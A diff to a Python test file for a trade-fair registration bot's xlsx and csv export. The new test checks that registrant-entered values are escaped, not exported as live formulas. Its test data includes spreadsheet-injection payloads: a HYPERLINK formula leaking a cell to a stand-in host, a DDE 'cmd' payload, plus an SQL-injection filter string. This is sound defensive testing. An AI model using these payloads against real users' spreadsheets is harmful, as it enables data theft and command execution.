@@ -13,7 +13,7 @@ import time_machine
 from openpyxl.worksheet.worksheet import Worksheet
 
 from bot.app import App
-from bot.types import Document
+from bot.core.types import Document
 from storage.enterprises import EnterpriseStatus
 from storage.roles import Role
 from tests.fair_data import TODAY, make_fair, tap
@@ -163,3 +163,39 @@ async def test_a_forged_filter_is_not_trusted(app: App) -> None:
     await tap(moderator, "export:e:'; DROP TABLE enterprises;--:-:-:-:xlsx")
     assert moderator.last.document is None
     assert "xuất" in moderator.text.lower()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def test_what_registrants_typed_is_never_a_formula_in_either_format(app: App) -> None:
+    svc = app.router.services
+    e = await add_enterprise(
+        app, "p1", HYPERLINK, contact="@SUM(1+1)", status=EnterpriseStatus.APPROVED
+    )
+    fair = await make_fair(app, booths=5)
+    async with svc.db.transaction():
+        await svc.booths.apply(fair.id, e.id, e.account_id, 2, "-2+3+cmd|' /C calc'!A0", "+1 bàn")
+    moderator = await member(app, Role.MODERATOR)
+    for what in ("e", "b"):
+        await tap(moderator, f"export:{what}:-:-:-:-:xlsx")
+        ws = _sheet(moderator.last.document)
+        cells = [cell for row in ws.iter_rows() for cell in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        assert not [c.value for c in cells if str(c.value).startswith(FORMULA_START)]
+        row = _rows(ws)[0]
+        assert row["Tên cơ sở"] == "'" + HYPERLINK
+        assert row["Người liên hệ"] == "'@SUM(1+1)"
+        assert row["Số điện thoại"] == "0912 345 678"
+        if what == "b":
+            assert row["Sản phẩm"] == "'-2+3+cmd|' /C calc'!A0"
+            assert row["Nhu cầu đặc biệt"] == "'+1 bàn"
+            assert row["Số gian hàng"] == 2  # a number still
+        await tap(moderator, f"export:{what}:-:-:-:-:csv")
+        document = moderator.last.document
+        assert document is not None
+        text = document.content.decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert not [v for r in rows for v in r if v.startswith(FORMULA_START)]
+        assert "'" + HYPERLINK in rows[1]
